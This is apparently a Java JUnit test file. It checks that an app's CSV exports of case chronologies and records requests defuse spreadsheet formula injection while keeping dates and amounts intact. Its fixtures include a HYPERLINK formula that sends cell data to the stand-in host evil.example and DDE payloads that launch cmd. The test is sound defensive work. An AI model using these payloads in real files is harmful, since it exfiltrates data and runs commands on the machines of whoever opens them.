package org.redress.app.export;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.nio.file.Path;
import java.util.List;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVParser;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.redress.app.casemodel.SmallCase;
import org.redress.app.cli.Cli;

/**
 * Both CSV exports of a real case, with text that a hostile document or a careless user puts in every text field:
 * each such cell comes out defused, and dates, ids and amounts come out as they were.
 */
class CsvExportsTest {
    @TempDir
    static Path tmp;

    static SmallCase c;

    static final String FACT = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Open\")";
    static final String PLACE = "+SUM(1,2)";
    static final String QUOTE = "@cmd|' /C calc'!A0";
    static final String SOURCE = "-2+3 memo";

    @BeforeAll
    static void setUp() throws IOException {
        c = SmallCase.imported(tmp);
        Path hostile = c.write(
                "hostile.csv",
                "date,kind,people,description,source,place,quote\n"
                        + "2017-05-02,adverse.detention,Victor Diaz,\"" + FACT.replace("\"", "\"\"") + "\",\"" + SOURCE
                        + "\",\""
                        + PLACE + "\",\"" + QUOTE + "\"\n");
        ok("import", "--case", c.dir.toString(), "events", hostile.toString());
    }

    static Cli.Run ok(String... args) {
        Cli.Run r = Cli.run(args);
        assertThat(r.code()).as(r.toString()).isZero();
        return r;
    }

    static List<CSVRecord> parse(String csv) throws IOException {
        try (CSVParser p = CSVParser.parse(
                csv,
                CSVFormat.DEFAULT
                        .builder()
                        .setHeader()
                        .setSkipHeaderRecord(true)
                        .get())) {
            return p.getRecords();
        }
    }

    static void noCellRunsAsAFormula(List<CSVRecord> rows) {
        for (CSVRecord row : rows) {
            for (String cell : row) assertThat(cell).as("row %s", row).doesNotMatch("(?s)[=+@\t\r].*");
        }
    }

    @Test
    void theChronologyCsvDefusesFactsPlacesSourcesAndQuotes() throws IOException {
        List<CSVRecord> rows = parse(
                ok("chronology", "--case", c.dir.toString(), "--format", "csv").out());
        CSVRecord hostile = rows.stream()
                .filter(r -> r.get("date").equals("2017-05-02"))
                .findFirst()
                .orElseThrow();
        assertThat(hostile.get("fact")).isEqualTo("'" + FACT);
        assertThat(hostile.get("place")).isEqualTo("'" + PLACE);
        assertThat(hostile.get("quote")).isEqualTo("'" + QUOTE);
        assertThat(hostile.get("source")).isEqualTo("'" + SOURCE);
        assertThat(hostile.get("kind")).isEqualTo("adverse.detention");
        assertThat(rows)
                .extracting(r -> r.get("date"))
                .contains("2017-03-01", "2017-03-17T07:30", "2017-03", "~2017-04-10");
        noCellRunsAsAFormula(rows);
        for (CSVRecord r : rows) assertThat(r.get("fact")).doesNotStartWith("-");
    }

    @Test
    void theRequestsCsvDefusesEveryTextFieldAndKeepsAmountsAndDates() throws IOException {
        ok(
                "requests",
                "add",
                "--case",
                c.dir.toString(),
                "--law",
                "us-foia",
                "--agency",
                "=cmd|' /C calc'!A0",
                "--office",
                "@SUM(A1)",
                "--subject",
                "-1+1 DMV look-ups",
                "--tracking",
                "+1-2024-0001",
                "--received",
                "2024-03-01",
                "--status",
                "processing",
                "--fees",
                "25.50",
                "--json");
        String csv = ok("requests", "export", "--case", c.dir.toString(), "--today", "2024-03-25")
                .out();
        CSVRecord r = parse(csv).get(0);
        assertThat(r.get("agency")).isEqualTo("'=cmd|' /C calc'!A0");
        assertThat(r.get("office")).isEqualTo("'@SUM(A1)");
        assertThat(r.get("subject")).isEqualTo("'-1+1 DMV look-ups");
        assertThat(r.get("tracking_number")).isEqualTo("'+1-2024-0001");
        assertThat(r.get("received")).isEqualTo("2024-03-01");
        assertThat(r.get("next_deadline")).isEqualTo("2024-03-29");
        // Id, fees and the count of productions are numbers: unquoted, as they were (a negative number would keep its
        // minus sign: SpreadsheetCellTest; fees cannot be negative).
        assertThat(r.get("fees")).isEqualTo("25.50");
        assertThat(csv.lines().skip(1).findFirst().orElseThrow())
                .startsWith("1,\"'+1-2024-0001\",")
                .endsWith(",25.50,0");
        noCellRunsAsAFormula(parse(csv));
    }
}
